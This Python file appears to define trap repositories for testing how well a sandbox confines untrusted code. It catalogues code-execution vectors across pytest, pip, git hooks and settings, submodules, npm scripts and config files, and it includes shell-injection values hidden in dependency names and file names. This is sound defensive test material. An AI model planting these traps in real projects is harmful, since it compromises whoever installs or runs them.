"""Traps that a repository can hold for whoever tries it: each writes a file outside of the repository, or opens a connection, under its own name.

In their texts `@SH@` is a command for a shell that springs the trap, `@PY@` an expression of Python, `@JS@` one of JavaScript, `@URL@` an
address of the listener, `@PLACE@` the folder outside, and `@NAME@` the name of the trap. `control` is a command that springs it, run without a
sandbox at the top of the repository.
"""

import json
from dataclasses import dataclass, field

PYTEST = "PYTHONDONTWRITEBYTECODE=1 python -m pytest -q -p no:cacheprovider"
PIP = "python -m pip download --no-input --disable-pip-version-check --retries 0 --timeout 3 --no-deps -d /dev/null"
NPM = "npm --no-update-notifier --fetch-retries=0 --no-audit --no-fund"


@dataclass(frozen=True)
class Trap:
    """A trap: files of the repository (path → text), files of its `.git` folder, and settings of git."""

    name: str
    files: dict = field(default_factory=dict)
    control: str = ""
    hooks: tuple = ()
    settings: dict = field(default_factory=dict)
    links: dict = field(default_factory=dict)


PLAIN = {
    "pyproject.toml": '[project]\nname = "shapes"\nversion = "1"\ndependencies = ["$(@SH@)", "; @SH@", "`@SH@`"]\n'
    '[tool.pytest.ini_options]\naddopts = "-p tests.plugin"\n',
    "shapes/__init__.py": "def area(a, b):\n    return a * b\n",
    "tests/__init__.py": "",
    "tests/test_shapes.py": "import os\nfrom shapes import area\n\n\ndef test_area():\n    assert area(2, 3) == 6\n    assert os.path.exists('conftest-ran')\n",
}
"""A project whose tests pass only if its `conftest.py` ran."""

PYTHON = (
    Trap("conftest", {"conftest.py": "open('conftest-ran', 'w').close()\n@PY@\n"}, PYTEST),
    Trap("pytest_plugin", {"tests/plugin.py": "@PY@\n"}, PYTEST),
    Trap("test_body", {"tests/test_body.py": "def test_body():\n    @PY@\n"}, PYTEST),
    Trap("sitecustomize", {"sitecustomize.py": "@PY@\n"}, "PYTHONPATH=. python -c 0"),
    Trap("pth_file", {"evil.pth": "import os; @PY@\n"}, "python -c 'import site; site.addsitedir(\".\")'"),
    Trap(
        "index_url",
        {"requirements-test.txt": "--index-url @URL@\n--trusted-host 127.0.0.1\niniconfig\n"},
        f"{PIP} -r requirements-test.txt",
    ),
    Trap(
        "find_links",
        {"requirements.txt": "--find-links @URL@/\n--no-index\niniconfig\n"},
        f"{PIP} -r requirements.txt",
    ),
    Trap(
        "editable_from_git",
        {"requirements-dev.txt": "-e git+@URL@#egg=evil\n"},
        f"{PIP} -r requirements-dev.txt",
    ),
    Trap(
        "requirement_by_address",
        {"test-requirements.txt": "evil @ @URL@/evil-1.0.tar.gz\n@URL@/evil-1.0.zip\n"},
        f"{PIP} -r test-requirements.txt",
    ),
    Trap(
        "requirement_of_a_folder",
        {"requirements/test.txt": "file:./evil\n./evil\n-e evil\n", "evil/setup.py": "@PY@\n"},
        "python evil/setup.py",
    ),
    Trap(
        "marker_tricks",
        {"requirements_dev.txt": "iniconfig; python_version > '$(@SH@)'\niniconfig ; @SH@\n--pre $(@SH@)\n"},
        "bash -c \"$(sed -n 's/^iniconfig ; //p' requirements_dev.txt)\"",
    ),
    Trap(
        "noxfile",
        {"noxfile.py": "import os\n@PY@\ndef tests(session):\n    session.install('''$(@SH@)''', 'iniconfig')\n"},
        "python noxfile.py",
    ),
    Trap("makefile", {"Makefile": "test:\n\t@SH@\nX := $(shell @SH@)\n"}, "make"),
    Trap(
        "workflow",
        {
            ".github/workflows/test.yml": "jobs:\n  test:\n    steps:\n      - run: |\n          pip install iniconfig $(@SH@)\n          @SH@\n"
        },
        "bash -c \"$(sed -n 's/^          bash/bash/p' .github/workflows/test.yml)\"",
    ),
    Trap(
        "pre_commit",
        {
            ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, language: system, entry: bash evil.sh}\n",
            "evil.sh": "@SH@\n",
        },
        "bash evil.sh",
    ),
    Trap(
        "own_settings",
        {
            "ghosttape.toml": '[tests]\nsetup = "@SH@; touch set-up"\n',
            "tests/test_set_up.py": "import os\n\n\ndef test_set_up():\n    assert os.path.exists('set-up')\n",
        },
        "bash -c \"$(sed -n 's/^setup = .\\(.*\\)./\\1/p' ghosttape.toml)\"",
    ),
    Trap(
        "hook",
        control="git -c user.name=A -c user.email=a@example.com commit -q --allow-empty -m x",
        hooks=(
            "pre-commit",
            "post-commit",
            "post-checkout",
            "post-index-change",
            "reference-transaction",
            "post-merge",
            "post-rewrite",
        ),
        settings={"core.hooksPath": ".git/hooks"},
    ),
    Trap("fsmonitor", control="git status", settings={"core.fsmonitor": "@SH@; true"}),
    Trap(
        "filter",
        {".gitattributes": "*.dat filter=evil\n*.md diff=evil\n", "a.dat": "1\n"},
        "rm a.dat; git checkout a.dat",
        settings={"filter.evil.smudge": "@SH@; cat"},
    ),
    Trap("textconv", {"a.md": "1\n"}, "git log -p -1", settings={"diff.evil.textconv": "@SH@; cat"}),
    Trap("external_diff", control="git diff HEAD~1 HEAD -- shapes", settings={"diff.external": "@SH@; true"}),
    Trap("ssh_command", control="git ls-remote ssh://evil.invalid/x", settings={"core.sshCommand": "@SH@; false"}),
    Trap(
        "submodule",
        {
            ".gitmodules": '[submodule "evil"]\n\tpath = sub\n\turl = ext::bash evil-submodule.sh\n',
            "evil-submodule.sh": "@SH@\n",
        },
        'git clone -q -c protocol.ext.allow=always "$(git config -f .gitmodules submodule.evil.url)" sub',
        settings={
            "submodule.evil.url": "ext::bash evil-submodule.sh",
            "submodule.evil.update": "!@SH@",
            "protocol.ext.allow": "always",
        },
    ),
    Trap(
        "link_out",
        {
            "tests/test_link.py": "def test_link():\n    try:\n        open('outside/@NAME@', 'w').close()\n    except OSError:\n        pass\n"
        },
        PYTEST,
        links={"outside": "@PLACE@"},
    ),
    Trap(
        "file_name",
        {
            "tests/test_$(bash evil-name).py": "",
            "tests/test_`bash evil-name`.py": "",
            "tests/test_; bash evil-name;.py": "",
            "evil-name": "@SH@\n",
        },
        'for name in tests/*bash*; do eval "ls $name"; done',
    ),
)
"""A project that passes at once; it is tried from its own folder."""

BUILT = {
    "shapes/__init__.py": "def area(a, b):\n    return a * b\n",
    "tests/test_shapes.py": "from importlib.metadata import version\n\nfrom shapes import area\n\n\ndef test_area():\n    assert area(2, 3) == 6\n    assert version('shapes') == '1'\n",
}
"""A project whose tests pass only after its build ran."""

SETUP_PY = (
    Trap(
        "setup_py",
        {"setup.py": "from setuptools import setup\n@PY@\nsetup(name='shapes', version='1', packages=['shapes'])\n"},
        "python setup.py --version",
    ),
    Trap(
        "setup_cfg",
        {
            "setup.cfg": "[metadata]\ndescription = attr: evil.text\n[options.entry_points]\npytest11 =\n  evil = evil\n",
            "evil.py": "text = 'x'\n[] and text or @PY@\n",
        },
        "python evil.py",
    ),
    Trap(
        "tox",
        {
            "tox.ini": "[testenv]\nallowlist_externals = bash\ncommands_pre = @SH@\ncommands =\n  @SH@\n  pytest $(@SH@) tests\n  python -m unittest; @SH@\n  python test.py `@SH@`\ndeps = $(@SH@)\n[testenv:test]\nsetenv = X=$(@SH@)\n"
        },
        "bash -c \"$(sed -n 's/^commands_pre = //p' tox.ini)\"",
    ),
)
"""Traps of a project that setuptools builds."""

BACKEND = (
    Trap(
        "backend_in_tree",
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build", "@PLACE@", ".."]\n[project]\nname = "shapes"\nversion = "1"\n[project.entry-points.pytest11]\nevil = "evil_entry"\n',
            "_build/backend.py": "@PY@\ndef build_editable(*a, **k):\n    @PY@\n    raise SystemExit(1)\nbuild_wheel = build_editable\n",
        },
        "python -c \"import sys; sys.path.insert(0, '_build'); import backend\"",
    ),
    Trap("entry_point", {"evil_entry.py": "@PY@\n"}, "python evil_entry.py"),
)
"""Traps of a project that brings its own build backend, which no way of testing it can use."""

_MANIFEST = {
    "name": "shapes",
    "version": "1.0.0",
    "scripts": {
        "preinstall": "bash evil/preinstall.sh",
        "install": "bash evil/install.sh",
        "postinstall": "bash evil/postinstall.sh",
        "prepare": "bash evil/prepare.sh",
        "pretest": "bash evil/pretest.sh",
        "test": "mocha && bash evil/test.sh; $(bash evil/test.sh)",
        "posttest": "bash evil/posttest.sh",
        "build": "bash evil/build.sh",
    },
    "devDependencies": {
        "mocha": "^10",
        "evil-ssh": "git+ssh://git@127.0.0.1:1/x.git",
        "evil-file": "file:./evil-package",
        "evil-tarball": "@URL@/evil.tgz",
        "evil-alias": "npm:left-pad@1 $(@SH@)",
        "; @SH@": "1",
        "$(@SH@)": "^1",
        "evil`@SH@`": "*",
    },
}

MOCHA = {
    "package.json": json.dumps(_MANIFEST),
    "index.js": "exports.area = (a, b) => a * b;\n",
    "test/index.test.js": "const assert = require('assert');\nconst { area } = require('..');\ndescribe('area', () => it('multiplies', () => {\n  assert.equal(area(2, 3), 6);\n  assert.ok(globalThis.configured);\n}));\n",
}
"""A project whose tests pass only if the settings of mocha ran."""

NODE = (
    *(
        Trap(
            f"script_{name}", {f"evil/{name}.sh": "@SH@\n"}, f'bash -c "$(npm pkg get scripts.{name} | tr -d \'\\"\')"'
        )
        for name in ("preinstall", "install", "postinstall", "prepare", "pretest", "posttest", "build")
    ),
    Trap("script_test", {"evil/test.sh": "@SH@\n"}, "PATH=/bin:/usr/bin bash evil/test.sh"),
    Trap(
        "mocha_settings",
        {".mocharc.cjs": "globalThis.configured = true;\n@JS@;\nmodule.exports = {};\n"},
        "node .mocharc.cjs",
    ),
    Trap("jest_settings", {"jest.config.js": "@JS@;\nmodule.exports = {};\n"}, "node jest.config.js"),
    Trap("vitest_settings", {"vitest.config.cjs": "@JS@;\nmodule.exports = {};\n"}, "node vitest.config.cjs"),
    Trap(
        "npmrc",
        {
            ".npmrc": "registry=@URL@/\nscript-shell=./evil/shell.sh\nnode-options=--require ./evil/require.cjs\nignore-scripts=false\n",
            "evil/require.cjs": "@JS@;\n",
        },
        f"{NPM} view iniconfig",
    ),
    Trap("script_shell", {"evil/shell.sh": "#!/bin/bash\n@SH@\n"}, f"{NPM} run posttest"),
    Trap(
        "pnpmfile",
        {
            ".pnpmfile.cjs": "@JS@;\nmodule.exports = {};\n",
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters: {.: {devDependencies: {mocha: {specifier: '^10', version: 'file:../x; @SH@'}}}}\n",
        },
        "node .pnpmfile.cjs",
    ),
    Trap("yarnrc", {".yarnrc.yml": "yarnPath: ./evil/yarn.cjs\n", "evil/yarn.cjs": "@JS@;\n"}, "node evil/yarn.cjs"),
    Trap(
        "file_package",
        {"evil-package/package.json": '{"name": "evil-file", "version": "1.0.0", "scripts": {"preinstall": "@SH@"}}'},
        f"cd evil-package && {NPM} run preinstall",
    ),
    Trap("tarball", {"tarball.txt": "@URL@/evil.tgz"}, f'cd evil-package && {NPM} install "$(cat ../tarball.txt)"'),
    Trap(
        "module_of_its_own",
        {"node_modules/mocha/package.json": '{"name": "mocha", "main": "x.js"}', "node_modules/mocha/x.js": "@JS@;\n"},
        "node node_modules/mocha/x.js",
    ),
)
"""Traps of a project in JavaScript."""
